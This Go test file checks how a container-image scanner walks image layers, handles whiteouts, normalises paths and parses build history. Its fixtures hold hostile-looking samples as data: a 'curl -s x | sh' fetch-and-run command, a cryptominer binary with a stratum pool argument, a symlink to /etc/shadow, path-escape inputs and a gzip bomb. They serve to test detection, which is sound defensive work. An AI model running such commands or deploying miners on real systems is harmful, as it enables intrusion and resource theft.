package layers_test

import (
	"context"
	"errors"
	"io"
	"io/fs"
	"reflect"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"

	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/internal/layers"
)

// state is what a test expects of one path in the final view.
type state struct {
	layer     int
	hidden    bool
	removedBy int
	typ       layers.EntryType
}

func live(layer int) state {
	return state{layer: layer, removedBy: layers.NoLayer, typ: layers.TypeFile}
}
func gone(layer, by int) state {
	return state{layer: layer, hidden: true, removedBy: by, typ: layers.TypeFile}
}

func TestWalkFilesystemView(t *testing.T) {
	tests := []struct {
		name   string
		layers [][]dt.File
		want   map[string]state
		issues []layers.IssueKind
	}{
		{
			name: "whiteout deletes a file",
			layers: [][]dt.File{
				{dt.Text("etc/a", "a"), dt.Text("etc/b", "b")},
				{dt.Whiteout("etc/a")},
			},
			want: map[string]state{"etc/a": gone(0, 1), "etc/b": live(0)},
		},
		{
			name: "whiteout of a directory deletes everything below it",
			layers: [][]dt.File{
				{dt.Dir("opt/m"), dt.Text("opt/m/x", "x"), dt.Text("opt/m/sub/y", "y"), dt.Text("opt/keep", "k")},
				{dt.Whiteout("opt/m")},
			},
			want: map[string]state{
				"opt/m":       {layer: 0, hidden: true, removedBy: 1, typ: layers.TypeDir},
				"opt/m/x":     gone(0, 1),
				"opt/m/sub/y": gone(0, 1),
				"opt/keep":    live(0),
			},
		},
		{
			name: "opaque dir hides lower contents, keeps its own layer's files",
			layers: [][]dt.File{
				{dt.Text("d/old", "o"), dt.Text("d/sub/deep", "o")},
				{dt.Text("d/before-marker", "n"), dt.Opaque("d"), dt.Text("d/new", "n")},
			},
			want: map[string]state{
				"d/old":           gone(0, 1),
				"d/sub/deep":      gone(0, 1),
				"d/before-marker": live(1),
				"d/new":           live(1),
			},
		},
		{
			name: "deleted then re-added path is live with the hidden version behind it",
			layers: [][]dt.File{
				{dt.Exec("bin/m", "v1")},
				{dt.Whiteout("bin/m")},
				{dt.Exec("bin/m", "v2")},
			},
			want: map[string]state{"bin/m": live(2)},
		},
		{
			name: "file written over a directory hides the directory's lower contents",
			layers: [][]dt.File{
				{dt.Text("x/inner", "i")},
				{dt.Text("x", "now a file")},
			},
			want: map[string]state{"x/inner": gone(0, 1), "x": live(1)},
		},
		{
			name: "whiteout of a missing path and later whiteout keep the first remover",
			layers: [][]dt.File{
				{dt.Text("a/f", "f")},
				{dt.Whiteout("a/f"), dt.Whiteout("nothing/here")},
				{dt.Whiteout("a")},
			},
			want: map[string]state{"a/f": gone(0, 1)},
		},
		{
			name: "paths are normalised and escapes are flagged",
			layers: [][]dt.File{
				{dt.Text("./a/b", "1"), dt.Text("/c", "2"), dt.Text("a/./d", "3"), dt.Text("../evil", "4"), dt.Text("a/../../evil2", "5")},
			},
			want:   map[string]state{"a/b": live(0), "c": live(0), "a/d": live(0)},
			issues: []layers.IssueKind{layers.IssueHistoryMismatch, layers.IssuePathEscape, layers.IssuePathEscape},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var steps []dt.Step
			for _, files := range tt.layers {
				steps = append(steps, dt.Step{CreatedBy: "COPY . / # buildkit", Files: files})
			}
			img := dt.Image(t, v1.Config{}, steps...)
			if tt.issues != nil {
				// Drop history to also exercise the mismatch warning.
				img = dropHistory(t, img)
			}
			res, err := layers.Walk(context.Background(), img, nil)
			if err != nil {
				t.Fatalf("Walk: %v", err)
			}
			for p, want := range tt.want {
				e, ok := res.Lookup(p)
				if !ok {
					t.Errorf("%s: missing from view", p)
					continue
				}
				got := state{layer: e.Layer, hidden: e.Hidden, removedBy: e.RemovedBy, typ: e.Type}
				if got != want {
					t.Errorf("%s: got %+v, want %+v", p, got, want)
				}
			}
			for _, p := range res.Paths() {
				if strings.Contains(p, "evil") {
					t.Errorf("escaping path %q in view", p)
				}
			}
			var kinds []layers.IssueKind
			for _, is := range res.Issues {
				kinds = append(kinds, is.Kind)
			}
			if !reflect.DeepEqual(kinds, tt.issues) {
				t.Errorf("issues = %v, want %v", kinds, tt.issues)
			}
		})
	}
}

func dropHistory(t *testing.T, img v1.Image) v1.Image {
	t.Helper()
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.History = nil
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestWalkVersionsAndHiddenVisit(t *testing.T) {
	img := dt.Image(t, v1.Config{},
		dt.Step{CreatedBy: "ADD minerd /bin/minerd # buildkit", Files: []dt.File{{Name: "bin/minerd", Body: "ELF", Mode: 0o644}}},
		dt.Run("chmod 755 /bin/minerd", dt.Exec("bin/minerd", "ELF")),
		dt.Run("curl -o /tmp/p http://x/p", dt.Text("tmp/p", "payload")),
		dt.Run("rm /tmp/p", dt.Whiteout("tmp/p")),
	)
	visited := map[string]*layers.Entry{}
	var contents []string
	res, err := layers.Walk(context.Background(), img, func(l *layers.LayerInfo, e *layers.Entry, r io.Reader) error {
		b, err := io.ReadAll(r)
		if err != nil {
			return err
		}
		visited[e.Path+"@"+string(rune('0'+l.Index))] = e
		contents = append(contents, string(b))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := contents, []string{"ELF", "ELF", "payload"}; !reflect.DeepEqual(got, want) {
		t.Errorf("visited contents = %q, want %q", got, want)
	}
	// The visitor's pointer sees the later deletion once Walk returns.
	p := visited["tmp/p@2"]
	if p == nil || !p.Hidden || p.RemovedBy != 3 {
		t.Errorf("tmp/p visited in layer 2 = %+v, want hidden, removed by 3", p)
	}
	m, _ := res.Lookup("/bin/minerd")
	vs := m.Versions()
	if len(vs) != 2 || vs[0].Layer != 0 || vs[0].Executable() || vs[0].ReplacedBy != 1 || vs[1].Layer != 1 || !vs[1].Executable() {
		t.Errorf("minerd versions = %+v %+v, want non-exec@0 replaced by 1, exec@1", vs[0], vs[len(vs)-1])
	}
	if vs[0].Hidden {
		t.Errorf("replaced version must not be hidden")
	}
}

func TestWalkLinksAreNotFollowed(t *testing.T) {
	img := dt.Image(t, v1.Config{}, dt.Step{CreatedBy: "COPY . /", Files: []dt.File{
		dt.Exec("bin/busybox", "BB"),
		dt.Symlink("bin/sh", "/bin/busybox"),
		dt.Symlink("etc/shadow-link", "../../../etc/shadow"),
		dt.Hardlink("usr/bin/xmrig", "./bin/busybox"),
	}})
	var visited []string
	res, err := layers.Walk(context.Background(), img, func(_ *layers.LayerInfo, e *layers.Entry, _ io.Reader) error {
		visited = append(visited, e.Path)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(visited, []string{"bin/busybox"}) {
		t.Errorf("visited %v, want only the regular file", visited)
	}
	tests := []struct {
		path     string
		typ      layers.EntryType
		linkname string
	}{
		{"bin/sh", layers.TypeSymlink, "/bin/busybox"},
		{"etc/shadow-link", layers.TypeSymlink, "../../../etc/shadow"},
		{"usr/bin/xmrig", layers.TypeHardlink, "bin/busybox"},
	}
	for _, tt := range tests {
		e, ok := res.Lookup(tt.path)
		if !ok || e.Type != tt.typ || e.Linkname != tt.linkname {
			t.Errorf("%s = %+v, want %s -> %s", tt.path, e, tt.typ, tt.linkname)
		}
		if e != nil && e.Mode&fs.ModeSymlink == 0 && tt.typ == layers.TypeSymlink {
			t.Errorf("%s: mode %v lacks symlink bit", tt.path, e.Mode)
		}
	}
}

func TestWalkHistoryAlignment(t *testing.T) {
	tests := []struct {
		name          string
		steps         []dt.Step
		dropLast      int // history entries removed from the end afterwards
		wantCreatedBy []string
		wantEmpty     [][]int
		wantMismatch  bool
	}{
		{
			name: "empty layers are skipped and attached to the layer before them",
			steps: []dt.Step{
				dt.Meta("ARG X=1"),
				dt.Run("apt-get update", dt.Text("var/lib/apt/x", "")),
				dt.Meta("WORKDIR /app"),
				dt.Meta("ENV A=b"),
				{CreatedBy: "/bin/sh -c #(nop) ADD file:abc in /bin/minerd ", Files: []dt.File{dt.Exec("bin/minerd", "x")}},
				dt.Meta(`ENTRYPOINT ["/bin/minerd"]`),
			},
			wantCreatedBy: []string{"RUN /bin/sh -c apt-get update # buildkit", "/bin/sh -c #(nop) ADD file:abc in /bin/minerd "},
			wantEmpty:     [][]int{{2, 3}, {5}},
		},
		{
			name: "fewer history entries than layers is reported, not fatal",
			steps: []dt.Step{
				dt.Run("a", dt.Text("a", "")),
				dt.Run("b", dt.Text("b", "")),
				dt.Meta("CMD [\"x\"]"),
			},
			dropLast:      2,
			wantCreatedBy: []string{"RUN /bin/sh -c a # buildkit", ""},
			wantEmpty:     [][]int{nil, nil},
			wantMismatch:  true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			img := dt.Image(t, v1.Config{}, tt.steps...)
			if tt.dropLast > 0 {
				cf, err := img.ConfigFile()
				if err != nil {
					t.Fatal(err)
				}
				cf = cf.DeepCopy()
				cf.History = cf.History[:len(cf.History)-tt.dropLast]
				if img, err = mutate.ConfigFile(img, cf); err != nil {
					t.Fatal(err)
				}
			}
			res, err := layers.Walk(context.Background(), img, nil)
			if err != nil {
				t.Fatal(err)
			}
			var gotCB []string
			var gotEmpty [][]int
			for _, l := range res.Layers {
				gotCB = append(gotCB, l.CreatedBy)
				gotEmpty = append(gotEmpty, l.EmptyAfter)
				if l.HistoryIndex != layers.NoLayer && res.History[l.HistoryIndex].Layer != l.Index {
					t.Errorf("history %d not linked back to layer %d", l.HistoryIndex, l.Index)
				}
				if l.DiffID.Hex == "" || l.Digest.Hex == "" || !l.Complete {
					t.Errorf("layer %d metadata incomplete: %+v", l.Index, l)
				}
			}
			if !reflect.DeepEqual(gotCB, tt.wantCreatedBy) {
				t.Errorf("created_by = %q, want %q", gotCB, tt.wantCreatedBy)
			}
			if !reflect.DeepEqual(gotEmpty, tt.wantEmpty) {
				t.Errorf("empty after = %v, want %v", gotEmpty, tt.wantEmpty)
			}
			mismatch := false
			for _, is := range res.Issues {
				mismatch = mismatch || is.Kind == layers.IssueHistoryMismatch
			}
			if mismatch != tt.wantMismatch {
				t.Errorf("mismatch reported = %v, want %v (issues %+v)", mismatch, tt.wantMismatch, res.Issues)
			}
		})
	}
}

func TestWalkLimits(t *testing.T) {
	big := strings.Repeat("A", 5000)
	img := dt.Image(t, v1.Config{},
		dt.Run("one", dt.Text("big", big), dt.Text("small", "s"), dt.Text("third", "t")),
		dt.Run("two", dt.Text("later", "l")),
	)
	readAll := func(_ *layers.LayerInfo, _ *layers.Entry, r io.Reader) error {
		_, err := io.Copy(io.Discard, r)
		return err
	}
	readFour := func(_ *layers.LayerInfo, _ *layers.Entry, r io.Reader) error {
		if _, err := r.Read(make([]byte, 4)); err != nil && err != io.EOF {
			return err
		}
		return nil
	}
	tests := []struct {
		name       string
		visit      layers.VisitFunc
		opts       []layers.WalkOption
		want       []layers.IssueKind
		wantLayers []int // layers of the issues
		wantAbsent []string
	}{
		{name: "defaults: nothing hit", visit: readAll},
		{
			name:       "file limit hit when the visitor wants more",
			visit:      readAll,
			opts:       []layers.WalkOption{layers.WithMaxFileBytes(1000)},
			want:       []layers.IssueKind{layers.IssueFileLimit},
			wantLayers: []int{0},
		},
		{
			name:  "file limit not hit when the visitor reads a prefix only",
			visit: readFour,
			opts:  []layers.WalkOption{layers.WithMaxFileBytes(1000)},
		},
		{
			name:       "entry limit stops the layer",
			visit:      readAll,
			opts:       []layers.WalkOption{layers.WithMaxEntries(2)},
			want:       []layers.IssueKind{layers.IssueEntryLimit},
			wantLayers: []int{0},
			wantAbsent: []string{"third"},
		},
		{
			name:       "total limit stops this and later layers",
			visit:      readAll,
			opts:       []layers.WalkOption{layers.WithMaxTotalBytes(3000)},
			want:       []layers.IssueKind{layers.IssueTotalLimit, layers.IssueTotalLimit},
			wantLayers: []int{0, 1},
			wantAbsent: []string{"third", "later"},
		},
		{
			name:       "image entry budget stops this and later layers",
			visit:      readAll,
			opts:       []layers.WalkOption{layers.WithMaxImageEntries(2)},
			want:       []layers.IssueKind{layers.IssueImageEntryLimit, layers.IssueImageEntryLimit},
			wantLayers: []int{0, 1},
			wantAbsent: []string{"third", "later"},
		},
		{
			name:       "wall time budget stops the walk",
			visit:      readAll,
			opts:       []layers.WalkOption{layers.WithMaxWallTime(time.Nanosecond)},
			want:       []layers.IssueKind{layers.IssueWallTimeLimit, layers.IssueWallTimeLimit},
			wantLayers: []int{0, 1},
			wantAbsent: []string{"big", "later"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := layers.Walk(context.Background(), img, tt.visit, tt.opts...)
			if err != nil {
				t.Fatalf("Walk: %v", err)
			}
			var kinds []layers.IssueKind
			var idx []int
			for _, is := range res.NotScanned() {
				kinds = append(kinds, is.Kind)
				idx = append(idx, is.Layer)
			}
			if !reflect.DeepEqual(kinds, tt.want) || !reflect.DeepEqual(idx, tt.wantLayers) {
				t.Errorf("not scanned = %v in layers %v, want %v in %v", kinds, idx, tt.want, tt.wantLayers)
			}
			for _, p := range tt.wantAbsent {
				if _, ok := res.Lookup(p); ok {
					t.Errorf("%s in view although its layer was cut", p)
				}
			}
			if len(tt.want) > 0 && tt.want[0] != layers.IssueFileLimit && res.Layers[0].Complete {
				t.Errorf("layer 0 marked complete after a layer limit")
			}
		})
	}
}

// TestWalkReadsWholeFiles: by default an analyzer gets every byte of a file
// larger than the old 32 MiB bound, and no issue is reported.
func TestWalkReadsWholeFiles(t *testing.T) {
	const size = 40 << 20
	body := strings.Repeat("x", size-len("miner")) + "miner"
	img := dt.Image(t, v1.Config{}, dt.Run("big", dt.Text("var/lib/apt/lists/Packages", body)))
	var got int64
	var tail []byte
	res, err := layers.Walk(context.Background(), img, func(_ *layers.LayerInfo, _ *layers.Entry, r io.Reader) error {
		b, err := io.ReadAll(r)
		got, tail = int64(len(b)), b[max(0, len(b)-5):]
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if got != size || string(tail) != "miner" || len(res.NotScanned()) > 0 {
		t.Errorf("read %d of %d bytes, tail %q, issues %v", got, size, tail, res.NotScanned())
	}
}

// TestWalkNeverComputesDiffIDs: a config without rootfs.diff_ids (here a
// gzip bomb of 64 MiB of zeros listed 30 times) is an integrity issue on
// every layer; the walker never asks a layer for its diffID (which
// inflates the blob for layout and registry layers, once per listing), and
// reads each listing within the image budget.
func TestWalkNeverComputesDiffIDs(t *testing.T) {
	tb, err := dt.Tar(dt.Text("zeros", string(make([]byte, 64<<20))))
	if err != nil {
		t.Fatal(err)
	}
	bomb := dt.Blob{Data: dt.Gzip(t, tb, 9), DiffID: dt.Hash(nil)}
	blobs := make([]dt.Blob, 30)
	for i := range blobs {
		blobs[i] = bomb
	}
	img, reads := dt.CountReads(dt.RawImageWithoutDiffIDs(t, v1.ConfigFile{}, blobs...))
	res, err := layers.Walk(context.Background(), img, nil, layers.WithMaxTotalBytes(256<<20))
	if err != nil {
		t.Fatal(err)
	}
	if n := reads.DiffID.Load(); n != 0 {
		t.Errorf("walker asked layers for their diffID %d times", n)
	}
	kinds := map[layers.IssueKind]int{}
	for _, is := range res.Issues {
		kinds[is.Kind]++
		if is.Kind == layers.IssueDiffIDMissing && !is.Integrity() {
			t.Errorf("%s is not an integrity issue", is.Kind)
		}
	}
	if kinds[layers.IssueDiffIDMissing] != 30 || kinds[layers.IssueTotalLimit] == 0 {
		t.Errorf("issues %v, want 30 %s and the byte budget hit", kinds, layers.IssueDiffIDMissing)
	}
	if res.Bytes > 256<<20 {
		t.Errorf("read %d bytes, more than the 256 MiB budget", res.Bytes)
	}
}

func TestWalkErrors(t *testing.T) {
	img := dt.Image(t, v1.Config{}, dt.Run("x", dt.Text("f", "x")))
	boom := errors.New("boom")
	_, err := layers.Walk(context.Background(), img, func(*layers.LayerInfo, *layers.Entry, io.Reader) error { return boom })
	if !errors.Is(err, boom) {
		t.Errorf("visitor error = %v, want wrapped boom", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := layers.Walk(ctx, img, nil); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled walk error = %v", err)
	}
}

func TestNormalizePath(t *testing.T) {
	tests := []struct {
		in     string
		want   string
		wantOK bool
	}{
		{"./usr/bin/x", "usr/bin/x", true},
		{"/etc//cron.d/", "etc/cron.d", true},
		{"a/b/../c", "a/c", true},
		{"./", "", true},
		{"../x", "", false},
		{"a/../../x", "", false},
		{"/../x", "", false},
	}
	for _, tt := range tests {
		got, ok := layers.NormalizePath(tt.in)
		if got != tt.want || ok != tt.wantOK {
			t.Errorf("NormalizePath(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.wantOK)
		}
	}
}

func TestParseCreatedBy(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want layers.Step
	}{
		{"buildkit run", "RUN /bin/sh -c apt-get update && make # buildkit",
			layers.Step{Instruction: "RUN", Args: "apt-get update && make", Builder: "buildkit"}},
		{"buildkit run with build args", "RUN |2 A=1 B=two /bin/sh -c echo $A # buildkit",
			layers.Step{Instruction: "RUN", Args: "echo $A", Builder: "buildkit"}},
		{"buildkit run with SHELL options", "RUN /bin/bash -o pipefail -c curl -s x | sh # buildkit",
			layers.Step{Instruction: "RUN", Args: "curl -s x | sh", Builder: "buildkit"}},
		{"buildkit exec form", `RUN ["/bin/sh" "-c" "chmod 755 /bin/minerd"] # buildkit`,
			layers.Step{Instruction: "RUN", Args: "chmod 755 /bin/minerd", Builder: "buildkit"}},
		{"buildkit copy", "COPY --chmod=755 minerd /bin/minerd # buildkit",
			layers.Step{Instruction: "COPY", Args: "--chmod=755 minerd /bin/minerd", Builder: "buildkit"}},
		{"buildkit entrypoint", `ENTRYPOINT ["/bin/minerd" "-a" "cryptonight"]`,
			layers.Step{Instruction: "ENTRYPOINT", Args: `["/bin/minerd" "-a" "cryptonight"]`, Builder: "other"}},
		{"legacy run", "/bin/sh -c git clone https://github.com/OhGodAPet/cpuminer-multi",
			layers.Step{Instruction: "RUN", Args: "git clone https://github.com/OhGodAPet/cpuminer-multi", Builder: "legacy"}},
		{"legacy run with build args", "|1 V=2 /bin/sh -c echo $V",
			layers.Step{Instruction: "RUN", Args: "echo $V", Builder: "legacy"}},
		{"legacy nop add", "/bin/sh -c #(nop) ADD file:6086fe14 in /bin/minerd ",
			layers.Step{Instruction: "ADD", Args: "file:6086fe14 in /bin/minerd", Builder: "legacy"}},
		{"legacy nop entrypoint", `/bin/sh -c #(nop)  ENTRYPOINT ["/bin/minerd" "-a"]`,
			layers.Step{Instruction: "ENTRYPOINT", Args: `["/bin/minerd" "-a"]`, Builder: "legacy"}},
		{"unknown", "crane flatten sha256:abc",
			layers.Step{Args: "crane flatten sha256:abc"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := layers.ParseCreatedBy(tt.in); got != tt.want {
				t.Errorf("ParseCreatedBy(%q) = %+v, want %+v", tt.in, got, tt.want)
			}
		})
	}
}

func TestParseExecForm(t *testing.T) {
	tests := []struct {
		in     string
		want   []string
		wantOK bool
	}{
		{`["/bin/minerd", "-a", "cryptonight"]`, []string{"/bin/minerd", "-a", "cryptonight"}, true},
		{`["/bin/minerd" "-o" "stratum+tcp://x:1"]`, []string{"/bin/minerd", "-o", "stratum+tcp://x:1"}, true},
		{`[]`, []string{}, true},
		{`/bin/minerd -a x`, nil, false},
		{`["unterminated]`, nil, false},
	}
	for _, tt := range tests {
		got, ok := layers.ParseExecForm(tt.in)
		if ok != tt.wantOK || !reflect.DeepEqual(got, tt.want) {
			t.Errorf("ParseExecForm(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.wantOK)
		}
	}
}
